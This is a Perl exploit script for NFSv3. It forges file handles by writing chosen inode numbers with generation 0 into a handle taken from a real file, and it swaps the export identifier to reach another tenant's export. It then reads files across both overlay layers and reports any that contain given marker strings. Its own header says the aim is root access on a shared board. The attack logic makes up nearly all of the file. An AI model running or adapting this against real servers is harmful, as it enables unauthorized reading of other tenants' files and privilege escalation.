# Copyright: hetero.compute contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
#
# perl nfs3.pl+forge.pl SERVER EXPORT OTHER_EXPORT LAST INODE,… MARKER…: root on a board with forged NFS handles.
# The handle of a file holds its inode number and its generation (ext4), and ext4 takes generation 0 for any. Asks for
# all numbers up to LAST, and the others, in both layers of its root; says which files hold a MARKER, and whether the way works
# at all: by a file of its own that it asks for in the same way.
my ($export, $other, $last, $more, @markers) = @ARGV;
# Requests that are under way at once, and bytes that are read of a file.
my ($BATCH, $COUNT) = (64, 4096);
my $mount_port = port_of($MOUNT);
my $root = mounted($mount_port, $export) or die "cannot mount $export";
for my $path ($other, '/', '/tftpboot', '/var/lib/hetero', '/etc') { print "mounts $path\n" if defined mounted($mount_port, $path) }

my $nfs = dial(2049);
sub handle {
    my $here = $root;
    for my $name (split m{/}, shift) {
        ask($nfs, $NFS, 3, $LOOKUP, opaque($here) . opaque($name));
        my ($status, $length, $rest) = unpack 'N2 a*', answer($nfs);
        die "lookup $name: $status" if $status;
        $here = substr($rest, 0, $length);
    }
    return $here;
}

# What a request for the content says: the content, or undef.
sub content {
    my ($status, $has, $rest) = unpack 'N2 a*', $_[0] . "\0" x 16;
    return if $status;
    return unpack 'x8 N/a', $has ? substr($rest, 84) : $rest;
}

# Where the number lies in a handle: the same place in all of a server's.
my $place;
sub forged { my ($handle, $inode) = @_; substr($handle, $place, 8) = pack('V2', $inode, 0); return $handle }

my $mine = 'a file of my own';
for my $name ('one', 'two') { open my $file, '>', "/root/forge-$name" or die; print $file "$mine: $name\n"; close $file }
system 'sync';
my ($one, $two) = (handle('root/forge-one'), handle('root/forge-two'));
# An overlay shows the number below with the layer's in front of it.
my $number = (stat '/root/forge-two')[1] & 0xffffffff;
$place = rindex $two, pack('V', $number);
die "no inode number in the handle" if $place < 0;

my $lower = handle('etc/debian_version');
my %layers = (upper => $one, lower => $lower);
# The same with the number of the other tenant's export in it.
for my $layer ('upper', 'lower') {
    my $handle = $layers{$layer};
    (my $swapped = substr $handle, 0, 12) =~ s/\x01(?=\0)|(?<=\0)\x01/\x02/;
    $layers{"$layer of $other"} = $swapped . substr $handle, 12;
}
my @chosen = split /,/, $more;
for my $layer (sort keys %layers) {
    my @inodes = ($layer =~ / of / ? @chosen : (1 .. $last, @chosen));
    my ($tried, $readable, @asked) = (0, 0);
    for my $inode ($number, @inodes, undef) {
        if (defined $inode) { ask($nfs, $NFS, 3, $READ, opaque(forged($layers{$layer}, $inode)) . pack('N3', 0, 0, $COUNT)); push @asked, $inode }
        next unless !defined $inode or @asked == $BATCH;
        for my $asked (splice @asked) {
            my $said = content(answer($nfs));
            $tried++;
            next unless defined $said;
            $readable++;
            print "works\n" if $layer eq 'upper' and $said eq "$mine: two\n";
            for my $marker (@markers) { print "found $marker in $layer inode $asked\n" if index($said, $marker) >= 0 }
        }
    }
    print "tried $tried of $layer, readable $readable\n";
}
unlink '/root/forge-one', '/root/forge-two';
